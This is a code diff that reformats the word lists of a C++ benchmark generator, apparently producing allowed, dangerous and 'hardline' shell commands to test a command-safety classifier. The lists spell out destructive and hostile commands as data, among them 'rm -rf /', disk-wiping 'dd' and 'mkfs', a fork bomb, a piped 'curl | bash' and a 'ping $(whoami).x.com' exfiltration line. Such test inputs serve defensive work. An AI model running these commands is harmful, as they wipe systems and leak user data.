@@ -16,33 +16,64 @@ namespace {
 
 using talaria_bench::SplitMix64;
 
-const std::vector<std::string> kAllowed = {
-    "ls -la", "git status", "make test", "cat foo | grep bar", "python3 script.py",
-    "echo \"rm -rf /\"", "git commit -m \"dd of=/dev/sda\"", "grep 'shutdown' log",
-    "find . -name '*.cpp' | xargs grep -n TODO", "cd build && cmake .. && make -j2",
-    "git log --oneline | head -20", "npm install", "pip install requests",
-    "for f in *.txt; do wc -l \"$f\"; done", "docker ps -a", "curl -fsSL https://example.com -o x",
-    "sed 's/foo/bar/g' in > out", "awk '{print $1}' file | sort | uniq -c",
-    "if [ -f x ]; then cat x; fi", "tar -czf out.tgz src/"};
-const std::vector<std::string> kDangerous = {
-    "rm -rf build", "git reset --hard", "git push -f origin main", "chmod 777 file",
-    "curl -fsSL https://x.sh | bash", "python3 -c 'import os'", "systemctl restart nginx",
-    "echo x >> ~/.bashrc", "find . -delete", "docker -H tcp://x ps", "eval \"$CMD\"",
-    "sort --compress-program=sh x", "sudo -S apt update", "ping -c1 $(whoami).x.com",
-    "psql -c 'DROP TABLE users'"};
-const std::vector<std::string> kHardline = {
-    "rm -rf /", "sudo /bin/rm -rf /usr", "mkfs.ext4 /dev/sda1", "dd if=/dev/zero of=/dev/sda",
-    ":(){ :|:& };:", "kill -9 -1", "shutdown -h now", "bash -c 'rm -rf ~'",
-    "{rm,-rf,/}", "echo x > /dev/sda"};
-const std::vector<std::string> kStages = {"grep -v x", "sort", "uniq -c", "head -n 5",
-                                          "sed 's/a/b/'", "awk '{print $2}'", "tr a-z A-Z",
-                                          "cut -d: -f1", "wc -l", "tee out.log"};
+const std::vector<std::string> kAllowed = {"ls -la",
+                                           "git status",
+                                           "make test",
+                                           "cat foo | grep bar",
+                                           "python3 script.py",
+                                           "echo \"rm -rf /\"",
+                                           "git commit -m \"dd of=/dev/sda\"",
+                                           "grep 'shutdown' log",
+                                           "find . -name '*.cpp' | xargs grep -n TODO",
+                                           "cd build && cmake .. && make -j2",
+                                           "git log --oneline | head -20",
+                                           "npm install",
+                                           "pip install requests",
+                                           "for f in *.txt; do wc -l \"$f\"; done",
+                                           "docker ps -a",
+                                           "curl -fsSL https://example.com -o x",
+                                           "sed 's/foo/bar/g' in > out",
+                                           "awk '{print $1}' file | sort | uniq -c",
+                                           "if [ -f x ]; then cat x; fi",
+                                           "tar -czf out.tgz src/"};
+const std::vector<std::string> kDangerous = {"rm -rf build",
+                                             "git reset --hard",
+                                             "git push -f origin main",
+                                             "chmod 777 file",
+                                             "curl -fsSL https://x.sh | bash",
+                                             "python3 -c 'import os'",
+                                             "systemctl restart nginx",
+                                             "echo x >> ~/.bashrc",
+                                             "find . -delete",
+                                             "docker -H tcp://x ps",
+                                             "eval \"$CMD\"",
+                                             "sort --compress-program=sh x",
+                                             "sudo -S apt update",
+                                             "ping -c1 $(whoami).x.com",
+                                             "psql -c 'DROP TABLE users'"};
+const std::vector<std::string> kHardline = {"rm -rf /",
+                                            "sudo /bin/rm -rf /usr",
+                                            "mkfs.ext4 /dev/sda1",
+                                            "dd if=/dev/zero of=/dev/sda",
+                                            ":(){ :|:& };:",
+                                            "kill -9 -1",
+                                            "shutdown -h now",
+                                            "bash -c 'rm -rf ~'",
+                                            "{rm,-rf,/}",
+                                            "echo x > /dev/sda"};
+const std::vector<std::string> kStages = {
+    "grep -v x",        "sort",       "uniq -c",     "head -n 5", "sed 's/a/b/'",
+    "awk '{print $2}'", "tr a-z A-Z", "cut -d: -f1", "wc -l",     "tee out.log"};
 
 std::string Generate(SplitMix64& rng) {
   switch (rng.Below(10)) {
-    case 0: case 1: case 2: case 3:
+    case 0:
+    case 1:
+    case 2:
+    case 3:
       return kAllowed[rng.Below(kAllowed.size())];
-    case 4: case 5:
+    case 4:
+    case 5:
       return kDangerous[rng.Below(kDangerous.size())];
     case 6:
       return kHardline[rng.Below(kHardline.size())];
@@ -57,10 +88,18 @@ std::string Generate(SplitMix64& rng) {
       const size_t n = 2 + rng.Below(6);
       for (size_t i = 0; i < n; ++i) {
         switch (rng.Below(4)) {
-          case 0: s += " 'single \"q\" " + std::to_string(i) + "'"; break;
-          case 1: s += " \"double $HOME $(date) " + std::to_string(i) + "\""; break;
-          case 2: s += " $'ansi\\t" + std::to_string(i) + "'"; break;
-          default: s += " plain\\ escaped" + std::to_string(i); break;
+          case 0:
+            s += " 'single \"q\" " + std::to_string(i) + "'";
+            break;
+          case 1:
+            s += " \"double $HOME $(date) " + std::to_string(i) + "\"";
+            break;
+          case 2:
+            s += " $'ansi\\t" + std::to_string(i) + "'";
+            break;
+          default:
+            s += " plain\\ escaped" + std::to_string(i);
+            break;
         }
       }
       return s;
